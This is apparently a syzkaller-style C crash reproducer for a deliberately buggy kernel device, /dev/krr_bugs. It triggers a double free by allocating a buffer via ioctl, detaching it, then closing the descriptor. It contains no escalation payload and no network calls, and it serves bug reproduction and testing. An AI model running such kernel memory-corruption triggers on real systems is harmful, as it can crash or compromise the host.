// double free of the KRR_BUF_ALLOC buffer: KRR_BUF_DETACH, then close()
// (written the way syzkaller writes C reproducers)

#define _GNU_SOURCE

#include <stdint.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

uint64_t r[1] = {0xffffffffffffffff};

int main(void) {
    syscall(__NR_mmap, 0x1ffff000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x20000000ul, 0x1000000ul, 7ul, 0x32ul, -1, 0ul);
    syscall(__NR_mmap, 0x21000000ul, 0x1000ul, 0ul, 0x32ul, -1, 0ul);
    intptr_t res = 0;
    memcpy((void*)0x20000000, "/dev/krr_bugs\000", 14);
    res = syscall(__NR_openat, 0xffffffffffffff9cul, 0x20000000ul, 2ul, 0ul);
    if (res != -1)
        r[0] = res;
    // KRR_BUF_ALLOC: 192 bytes
    syscall(__NR_ioctl, r[0], 0x4b10ul, 0xc0ul);
    // KRR_BUF_DETACH
    syscall(__NR_ioctl, r[0], 0x4b11ul, 0ul);
    syscall(__NR_close, r[0]);
    return 0;
}
